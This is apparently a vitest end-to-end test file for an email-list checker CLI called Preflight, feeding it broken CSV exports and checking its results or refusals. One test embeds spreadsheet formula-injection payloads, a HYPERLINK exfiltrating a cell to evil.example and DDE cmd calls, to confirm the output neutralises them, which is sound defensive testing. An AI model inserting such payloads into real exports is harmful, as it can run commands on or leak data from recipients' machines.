// Issue 8, item 1: the files users really feed Preflight when their CRM export goes
// wrong, run end to end through `preflight check`. Each one either gets the correct
// result, or exit 1 with ONE sentence on stderr naming the problem (and its line),
// no stack trace, no output and no staging leftovers; the input is never altered.
// Everything is generated at test time in a fresh temporary folder.
//
// The import unit tests (test/unit/import-*.test.ts) cover several of these at the
// reader's level; this is the consolidated corpus as a user meets it.
import { spawn } from 'node:child_process';
import { createReadStream, createWriteStream } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, folderContents, readCsv, repoRoot, sha256, type CliResult } from '../support/cli';
import { seededRandom } from '../support/seeded-random';

const NOW = '2026-01-01';
// The five outputs, and the manifest that marks them as Preflight's.
const OUTPUTS = ['.preflight-manifest.json', 'annotated.csv', 'remove.csv', 'report.json', 'review.csv', 'send.csv'];
const ANNOTATIONS = [
  'preflight_verdict',
  'preflight_reasons',
  'preflight_suggestion',
  'preflight_normalized',
  'preflight_risk',
  'preflight_decision',
];
const ONE_GB_KB = 1024 * 1024;

let root: string;
let counter = 0;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'preflight-hostile-'));
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

/** A fresh folder holding the input under `name`; `out` is inside it and does not exist yet. */
async function caseFolder(name: string, content: string | Buffer): Promise<{ input: string; out: string }> {
  const dir = join(root, `case-${++counter}`);
  await mkdir(dir);
  const input = join(dir, name);
  await writeFile(input, content);
  return { input, out: join(dir, 'out') };
}

interface Report {
  rows: number;
  verdicts: Record<'send' | 'review' | 'remove', number>;
  reasons: Record<string, number>;
  warnings: string[];
  columns: { email: string; consent: string | null };
  input: { encoding: string; delimiter: string; raggedRows: number };
}

interface Checked {
  annotated: Awaited<ReturnType<typeof readCsv>>;
  report: Report;
  /** send/review/remove.csv, parsed. */
  split: Record<'send' | 'review' | 'remove', Awaited<ReturnType<typeof readCsv>>>;
}

/** `preflight check` in-process, as test/cli does it. */
function check(input: string, out: string): Promise<CliResult> {
  return cli(['check', input, '--out', out, '--offline', '--now', NOW]);
}

/** A run that must succeed: every output, nothing else, every row accounted for, the input unchanged. */
async function expectChecked(result: CliResult, input: string, out: string, inputHash: string): Promise<Checked> {
  expect(result.stderr, 'nothing on stderr').toBe('');
  expect(result.code).toBe(0);
  expect((await readdir(out)).sort(), 'the five outputs and no staging folder').toEqual(OUTPUTS);
  expect(await sha256(input), 'the input is byte-identical').toBe(inputHash);
  const annotated = await readCsv(join(out, 'annotated.csv'));
  const report = JSON.parse(await readFile(join(out, 'report.json'), 'utf8')) as Report;
  const [send, review, remove] = await Promise.all(['send', 'review', 'remove'].map((v) => readCsv(join(out, `${v}.csv`))));
  const split = { send: send!, review: review!, remove: remove! };
  expect(report.rows).toBe(annotated.raw.length);
  for (const verdict of ['send', 'review', 'remove'] as const) {
    expect(split[verdict].header).toEqual(annotated.header);
    expect(split[verdict].raw.length).toBe(report.verdicts[verdict]);
    expect(split[verdict].rows.every((row) => row['preflight_verdict'] === verdict)).toBe(true);
  }
  expect(send!.raw.length + review!.raw.length + remove!.raw.length).toBe(annotated.raw.length);
  return { annotated, report, split };
}

/** Exit 1 with one sentence on stderr and no trace of a crash. */
function expectOneSentence(stderr: string, problem: RegExp): void {
  const text = stderr.trim();
  expect(text.split('\n'), `one line on stderr: ${text.slice(0, 300)}`).toHaveLength(1);
  expect(text).toMatch(/^preflight: /);
  expect(text).toMatch(problem);
  expect(text).not.toMatch(/internal error|\b[A-Z]\w*Error\b|^\s+at |node:internal/m);
  // A sentence, not a dump: short, ending in a full stop, no second sentence after it.
  expect(text.length, 'a sentence a user can read').toBeLessThan(600);
  expect(text).toMatch(/\.$/);
  expect(text.replace(/"[^"]*"/g, '"…"')).not.toMatch(/[.!?]\s+[A-Z]/);
}

/**
 * A run that must be refused. The output folder already holds a previous run's files
 * and one of the user's: after the failure it holds exactly those, unchanged.
 */
async function expectRefused(input: string, out: string, problem: RegExp, line?: number): Promise<void> {
  // The previous run's outputs and a file of the user's are in the folder.
  const previous = join(out, '..', 'previous.csv');
  await writeFile(previous, 'email\nada@example.org\n');
  expect((await check(previous, out)).code).toBe(0);
  await writeFile(join(out, 'notes.txt'), 'mine');
  const before = await folderContents(out);
  const inputHash = await sha256(input);
  const result = await check(input, out);
  expect(result.code, result.stderr).toBe(1);
  expect(result.stdout).toBe('');
  expectOneSentence(result.stderr, problem);
  if (line !== undefined) expect(result.stderr).toMatch(new RegExp(`\\bline ${line}\\b`, 'i'));
  expect(await folderContents(out), 'no new output and no staging folder').toEqual(before);
  expect(await sha256(input), 'the input is byte-identical').toBe(inputHash);
}

/** Cells as a spreadsheet-safe export writes them (csv-writer.ts: a ' before = + - @ TAB CR). */
const neutralised = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

/** The CLI as a separate Node process from source, with its peak RSS (bench/rss-on-exit.cjs). */
function measuredCli(args: string[]): Promise<CliResult & { peakRssKb: number; seconds: number }> {
  return new Promise((resolvePromise, reject) => {
    const started = performance.now();
    const child = spawn(
      process.execPath,
      ['-r', join(repoRoot, 'bench/rss-on-exit.cjs'), '--import', 'tsx', join(repoRoot, 'electron/cli/index.ts'), ...args],
      { cwd: repoRoot, env: { ...process.env, PREFLIGHT_TIMINGS: '' }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString('utf8')));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    child.on('error', reject);
    child.on('close', (code) => {
      const peak = /\n?__PEAK_RSS_KB__ (\d+)\n?/.exec(stderr);
      resolvePromise({
        code: code ?? -1,
        stdout,
        stderr: stderr.replace(/\n?__(?:PEAK_RSS_KB|CPU_US)__ \d+\n?/g, ''),
        peakRssKb: peak ? Number(peak[1]) : NaN,
        seconds: (performance.now() - started) / 1000,
      });
    });
  });
}

describe('hostile input, end to end through preflight check', () => {
  it('an empty file: refused, saying it is empty', async () => {
    const { input, out } = await caseFolder('empty.csv', '');
    await expectRefused(input, out, /"empty\.csv" is empty/);
  });

  it('a header and nothing else: checked, 0 rows, every output holds just the header', async () => {
    const { input, out } = await caseFolder('header-only.csv', 'Email,Name,Opt-in\r\n');
    const hash = await sha256(input);
    const { annotated, report } = await expectChecked(await check(input, out), input, out, hash);
    expect(report.rows).toBe(0);
    expect(report.verdicts).toEqual({ send: 0, review: 0, remove: 0 });
    expect(annotated.header).toEqual(['Email', 'Name', 'Opt-in', ...ANNOTATIONS]);
    for (const name of ['annotated', 'send', 'review', 'remove']) {
      expect(await readFile(join(out, `${name}.csv`), 'utf8')).toBe(`\uFEFFEmail,Name,Opt-in,${ANNOTATIONS.join(',')}\r\n`);
    }
  });

  describe('binary data', () => {
    const random = seededRandom(8);
    const bytes = (length: number, low: number, high: number) =>
      Buffer.from(Array.from({ length }, () => low + Math.floor(random() * (high - low + 1))));

    it('random bytes (NUL bytes among them): refused as not a text file', async () => {
      const { input, out } = await caseFolder('export.csv', bytes(64 * 1024, 0, 255));
      await expectRefused(input, out, /not a text file/);
    });

    it('random bytes without a NUL: refused as not a text file', async () => {
      const { input, out } = await caseFolder('export.csv', bytes(64 * 1024, 1, 255));
      await expectRefused(input, out, /not a text file/);
    });

    it('random high bytes, which would decode as Windows-1252 letters: refused as not text', async () => {
      // Every byte is a printable Windows-1252 character, but no list is mostly accents.
      const { input, out } = await caseFolder('export.csv', bytes(64 * 1024, 0xa0, 0xff));
      await expectRefused(input, out, /does not read as text .* save it as CSV UTF-8/);
    });
  });

  describe('NUL bytes inside a CSV', () => {
    const list = (rows: number, nulAt: number) =>
      ['Email,Name,Opt-in', ...Array.from({ length: rows }, (_, i) => `user${i}@gmail.com,User ${i === nulAt - 2 ? 'N\0L' : i},yes`)].join(
        '\n',
      ) + '\n';

    it('near the start: refused, naming the line', async () => {
      const { input, out } = await caseFolder('nul-early.csv', list(50, 7));
      await expectRefused(input, out, /NUL/, 7);
    });

    it('far down, past the first megabyte: refused, naming the line', async () => {
      // Beyond the 64 KB head the format check looks at, so the reader has to catch it.
      const { input, out } = await caseFolder('nul-late.csv', list(40_000, 38_123));
      expect((await stat(input)).size).toBeGreaterThan(1024 * 1024);
      await expectRefused(input, out, /NUL/, 38_123);
    });
  });

  describe('invalid UTF-8', () => {
    it('a UTF-8 export with a few damaged bytes: checked as UTF-8, with a warning naming the first bad line', async () => {
      const text = Buffer.concat([
        Buffer.from('Email,Name,Opt-in\nzoe@gmail.com,Zoë Müller,yes\njose@yahoo.com,José García,yes\n'),
        Buffer.from('bad@outlook.com,Bad'),
        Buffer.from([0xff, 0xfe]),
        Buffer.from(' Bytes,yes\nlast@gmail.com,Łukasz,yes\n'),
      ]);
      const { input, out } = await caseFolder('damaged.csv', text);
      const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
      expect(report.input.encoding).toBe('utf-8');
      expect(report.warnings.join(' ')).toMatch(/2 bytes are not valid UTF-8 \(first on line 4\)/);
      expect(annotated.raw.map((row) => row.slice(0, 2))).toEqual([
        ['zoe@gmail.com', 'Zoë Müller'],
        ['jose@yahoo.com', 'José García'],
        ['bad@outlook.com', 'Bad\uFFFD\uFFFD Bytes'],
        ['last@gmail.com', 'Łukasz'],
      ]);
      expect(annotated.rows.map((row) => row['preflight_verdict'])).toEqual(['send', 'send', 'send', 'send']);
    });

    it('a Windows-1252 export (not UTF-8 at all): read as Windows-1252, every accent right', async () => {
      const text = Buffer.from('E-Mail;Name;Opt-in\r\nzoe@gmail.com;Zo\xeb M\xfcller;ja\r\njose@web.de;Jos\xe9 \x80 5;nein\r\n', 'latin1');
      const { input, out } = await caseFolder('excel.csv', text);
      const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
      expect(report.input).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
      expect(annotated.raw.map((row) => row.slice(0, 2))).toEqual([
        ['zoe@gmail.com', 'Zoë Müller'],
        ['jose@web.de', 'José € 5'],
      ]);
      expect(annotated.rows.map((row) => [row['preflight_verdict'], row['preflight_reasons']])).toEqual([
        ['send', ''],
        ['remove', 'no_consent'],
      ]);
    });
  });

  it('mixed line endings (CRLF, LF, lone CR, a CRLF inside a quoted cell, no final newline): every row read', async () => {
    const text =
      'Email,Name,Opt-in,Note\r\n' +
      'ada@gmail.com,Ada,yes,crlf\n' +
      'grace@yahoo.com,Grace,yes,"two\r\nlines"\r' +
      'alan@outlook.com,Alan,no,after a lone CR\r\n' +
      '\r\n' +
      'linus@gmail.com,Linus,yes,last line without newline';
    const { input, out } = await caseFolder('mixed.csv', text);
    const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
    expect(report.input.raggedRows).toBe(0);
    // A line break inside a cell comes out as the writer's one form (docs: records.ts).
    expect(annotated.raw.map((row) => row.slice(0, 4))).toEqual([
      ['ada@gmail.com', 'Ada', 'yes', 'crlf'],
      ['grace@yahoo.com', 'Grace', 'yes', 'two\nlines'],
      ['alan@outlook.com', 'Alan', 'no', 'after a lone CR'],
      ['linus@gmail.com', 'Linus', 'yes', 'last line without newline'],
    ]);
    expect(annotated.rows.map((row) => row['preflight_verdict'])).toEqual(['send', 'send', 'remove', 'send']);
  });

  it('a single 30 MB line: refused, naming the line, with peak memory under 1 GB (a separate process)', async () => {
    const dir = join(root, `case-${++counter}`);
    await mkdir(dir);
    const input = join(dir, 'one-long-line.csv');
    const file = createWriteStream(input);
    file.write('Email,Name,Notes\nada@gmail.com,Ada,short\ngrace@yahoo.com,Grace,');
    const mb = 'x'.repeat(1024 * 1024);
    for (let i = 0; i < 30; i++) if (!file.write(mb)) await once(file, 'drain');
    file.end('\nalan@outlook.com,Alan,short\n');
    await once(file, 'finish');
    const hash = await sha256(input);
    const out = join(dir, 'out');

    const result = await measuredCli(['check', input, '--out', out, '--offline', '--now', NOW]);
    console.log(`30 MB line: ${result.seconds.toFixed(1)} s, peak RSS ${(result.peakRssKb / 1024).toFixed(0)} MB`);
    expect(result.code, result.stderr).toBe(1);
    expectOneSentence(result.stderr, /^preflight: Line 3 of "one-long-line\.csv" is longer than 20 MB/);
    expect(result.peakRssKb).toBeGreaterThan(0);
    expect(result.peakRssKb).toBeLessThan(ONE_GB_KB);
    await expect(stat(out), 'no output folder left behind').rejects.toMatchObject({ code: 'ENOENT' });
    expect(await sha256(input)).toBe(hash);
  });

  describe('10,000 columns', () => {
    const width = 10_000;
    const emailAt = 4_321;
    const header = Array.from({ length: width }, (_, i) => (i === emailAt ? 'Email' : `field ${i + 1}`));

    it('checked: every cell kept in place, the annotations after the 10,000th column', async () => {
      const addresses = ['ada@gmail.com', 'not an address', 'grace@yahoo.com', 'ada@gmail.com', 'info@acme-widgets.com'];
      const rows = addresses.map((address, r) => header.map((_, i) => (i === emailAt ? address : `r${r}c${i}`)));
      const { input, out } = await caseFolder('wide.csv', [header, ...rows].map((cells) => cells.join(',')).join('\n') + '\n');
      const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
      expect(annotated.header).toEqual([...header, ...ANNOTATIONS]);
      expect(annotated.raw.map((cells) => cells.slice(0, width))).toEqual(rows);
      expect(annotated.rows.map((row) => [row['preflight_verdict'], row['preflight_reasons']])).toEqual([
        ['send', ''],
        ['remove', 'syntax_invalid'],
        ['send', ''],
        ['remove', 'duplicate'],
        ['review', 'role_account'],
      ]);
      expect(report.columns.email).toBe('Email');
    });

    it('with no email column among them: refused in one short sentence, not a list of 10,000 names', async () => {
      const names = header.map((_, i) => `field ${i + 1}`);
      const row = names.map((_, i) => `value ${i}`);
      const { input, out } = await caseFolder('wide-no-email.csv', `${names.join(',')}\n${row.join(',')}\n`);
      await expectRefused(input, out, /no column of email addresses/i);
    });
  });

  it('a header cell with a line break in it, and no email column: still one line on stderr', async () => {
    const { input, out } = await caseFolder('multiline-header.csv', '"First\nName",City\nAda,London\n');
    await expectRefused(input, out, /no column of email addresses/i);
  });

  it('duplicate header names: checked, both columns kept under their names, the one holding addresses used', async () => {
    // A CRM export with an old, mostly empty "Email" field next to the real one.
    const text =
      'Email,Name,Email,Name,Opt-in\n' +
      'n/a,Ada,ada@gmail.com,Ada L,yes\n' +
      ',Grace,not an address,G,yes\n' +
      'n/a,Alan,alan@outlook.com,A,no\n';
    const { input, out } = await caseFolder('duplicate-headers.csv', text);
    const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
    expect(annotated.header).toEqual(['Email', 'Name', 'Email', 'Name', 'Opt-in', ...ANNOTATIONS]);
    expect(annotated.raw.map((cells) => cells.slice(0, 5))).toEqual([
      ['n/a', 'Ada', 'ada@gmail.com', 'Ada L', 'yes'],
      ['', 'Grace', 'not an address', 'G', 'yes'],
      ['n/a', 'Alan', 'alan@outlook.com', 'A', 'no'],
    ]);
    expect(report.columns).toMatchObject({ email: 'Email', consent: 'Opt-in' });
    expect(annotated.rows.map((row) => [row['preflight_verdict'], row['preflight_reasons'], row['preflight_normalized']])).toEqual([
      ['send', '', 'ada@gmail.com'],
      ['remove', 'syntax_invalid', ''],
      ['remove', 'no_consent', 'alan@outlook.com'],
    ]);
  });

  it('ragged rows, too few and too many fields: every row checked, every cell kept, the count reported', async () => {
    const text =
      'Name,Email,Opt-in\n' +
      'Ada\n' + // too few: no address at all
      'Grace,grace@yahoo.com\n' + // too few: no consent cell
      'Alan,alan@outlook.com,yes,extra,"more, quoted"\n' + // too many
      'Linus,linus@gmail.com,yes\n';
    const { input, out } = await caseFolder('ragged.csv', text);
    const { annotated, report } = await expectChecked(await check(input, out), input, out, await sha256(input));
    expect(report.input.raggedRows).toBe(3);
    // Padded to the widest row so every column lines up; nothing is dropped.
    expect(annotated.header).toEqual(['Name', 'Email', 'Opt-in', 'column_4', 'column_5', ...ANNOTATIONS]);
    expect(annotated.raw.map((cells) => cells.slice(0, 5))).toEqual([
      ['Ada', '', '', '', ''],
      ['Grace', 'grace@yahoo.com', '', '', ''],
      ['Alan', 'alan@outlook.com', 'yes', 'extra', 'more, quoted'],
      ['Linus', 'linus@gmail.com', 'yes', '', ''],
    ]);
    expect(annotated.rows.map((row) => row['preflight_verdict'])).toEqual(['remove', 'remove', 'send', 'send']);
    expect(annotated.rows[0]!['preflight_reasons']).toMatch(/\bno_address\b/);
  });

  describe('a quote that never closes', () => {
    it('on line 3 of a short file: refused, naming the line', async () => {
      const { input, out } = await caseFolder(
        'quote.csv',
        'Email,Name\nada@gmail.com,Ada\ngrace@yahoo.com,"Grace\nalan@outlook.com,Alan\n',
      );
      await expectRefused(input, out, /never closes/, 3);
    });

    it('far down a long file, after the part the preview reads: refused, naming the line', async () => {
      const rows = Array.from({ length: 5_000 }, (_, i) => `user${i}@gmail.com,${i === 4_210 ? '"Broken' : `User ${i}`},yes`);
      const { input, out } = await caseFolder('quote-late.csv', ['Email,Name,Opt-in', ...rows].join('\n') + '\n');
      await expectRefused(input, out, /never closes/, 4_212);
    });
  });

  it('formula cells: checked, and no cell of any CSV output starts a formula', async () => {
    const cells = [
      ['Email', 'Name', 'Phone', 'Note'],
      ['ada@gmail.com', '=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+44 20 7946 0958', "-1+cmd|' /C calc'!A0"],
      ['grace@yahoo.com', '@SUM(1+1)', '\tTAB first', '=1+1'],
      ["=cmd|' /C calc'!A0", 'Evil', '-5', '+'],
      ['alan@outlook.com', 'Alan', '', 'plain'],
    ];
    const quote = (cell: string) => (/[",\n\t]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
    const { input, out } = await caseFolder('formulas.csv', cells.map((row) => row.map(quote).join(',')).join('\r\n') + '\r\n');
    const { annotated, split } = await expectChecked(await check(input, out), input, out, await sha256(input));
    expect(annotated.raw.map((row) => row.slice(0, 4))).toEqual(cells.slice(1).map((row) => row.map(neutralised)));
    expect(annotated.rows.map((row) => [row['preflight_verdict'], row['preflight_reasons']])).toEqual([
      ['send', ''],
      ['send', ''],
      ['remove', 'syntax_invalid'],
      ['send', ''],
    ]);
    for (const [name, parsed] of [['annotated', annotated], ...Object.entries(split)] as const) {
      for (const cell of parsed.raw.flat()) expect(cell, `${name}.csv`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Raw bytes too: a spreadsheet sees the apostrophe first, whatever the quoting.
    const raw = await readFile(join(out, 'annotated.csv'), 'utf8');
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    expect(Papa.parse<string[]>(raw.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).errors).toEqual([]);
  });
});

// ~2 GB generated on the fly and streamed through a separate process. On this 2-core
// machine the whole case (generate, check, count) takes longer than a normal test run
// should, so it runs only when asked for.
const HUGE = process.env['PREFLIGHT_TEST_HUGE'] === '1';
const HUGE_BYTES = 2 * 1024 ** 3;
const NOTE_CHARS = 8 * 1024;

describe('a 2 GB file', () => {
  let dir = '';
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it.skipIf(!HUGE)(
    'is checked in bounded memory with every row accounted for (PREFLIGHT_TEST_HUGE=1; skipped otherwise: minutes on 2 cores, 6 GB of disk)',
    async () => {
      dir = await mkdtemp(join(tmpdir(), 'preflight-huge-'));
      const input = join(dir, 'huge.csv');
      const generated = await writeHugeList(input, HUGE_BYTES);
      expect((await stat(input)).size).toBeGreaterThanOrEqual(HUGE_BYTES);
      const out = join(dir, 'out');

      const result = await measuredCli(['check', input, '--out', out, '--offline', '--now', NOW, '--json']);
      console.log(
        `2 GB file: ${generated.rows.toLocaleString('en-US')} rows, generated in ${generated.seconds.toFixed(0)} s; ` +
          `check ${result.seconds.toFixed(0)} s, peak RSS ${(result.peakRssKb / 1024).toFixed(0)} MB`,
      );
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      expect(result.peakRssKb).toBeGreaterThan(0);
      expect(result.peakRssKb).toBeLessThan(ONE_GB_KB);

      const report = JSON.parse(result.stdout) as Report;
      expect(report.rows).toBe(generated.rows);
      expect(report.verdicts).toEqual({ send: generated.rows - generated.invalid, review: 0, remove: generated.invalid });
      expect(report.reasons).toEqual({ syntax_invalid: generated.invalid });
      // No cell holds a line break, so each output has one line per row after its header.
      expect(await countLines(join(out, 'annotated.csv'))).toBe(generated.rows + 1);
      const split = await Promise.all(['send', 'review', 'remove'].map((v) => countLines(join(out, `${v}.csv`))));
      expect(split).toEqual([report.verdicts.send + 1, 1, report.verdicts.remove + 1]);
    },
    15 * 60_000,
  );
});

/** Rows with an 8 KB notes cell (few rows, as memory grows with rows); every 10th address is invalid. */
async function writeHugeList(path: string, bytes: number): Promise<{ rows: number; invalid: number; seconds: number }> {
  const started = performance.now();
  const file = createWriteStream(path);
  const note = 'Met at the trade fair; asked for the catalogue and a call back. '.repeat(Math.ceil(NOTE_CHARS / 64)).slice(0, NOTE_CHARS);
  let written = 0;
  let rows = 0;
  let invalid = 0;
  let batch = 'Email,Name,Opt-in,Opt-in Date,Notes\n';
  while (written < bytes) {
    const valid = rows % 10 !== 0;
    if (!valid) invalid++;
    batch += `${valid ? `user${rows}@gmail.com` : `not an address ${rows}`},User ${rows},yes,2025-06-01,"${note}"\n`;
    rows++;
    if (batch.length >= 1024 * 1024) {
      written += batch.length;
      if (!file.write(batch)) await once(file, 'drain');
      batch = '';
    }
  }
  file.end(batch);
  await once(file, 'finish');
  return { rows, invalid, seconds: (performance.now() - started) / 1000 };
}

async function countLines(path: string): Promise<number> {
  let lines = 0;
  for await (const chunk of createReadStream(path, { highWaterMark: 4 * 1024 * 1024 }) as AsyncIterable<Buffer>) {
    for (let at = chunk.indexOf(10); at !== -1; at = chunk.indexOf(10, at + 1)) lines++;
  }
  return lines;
}
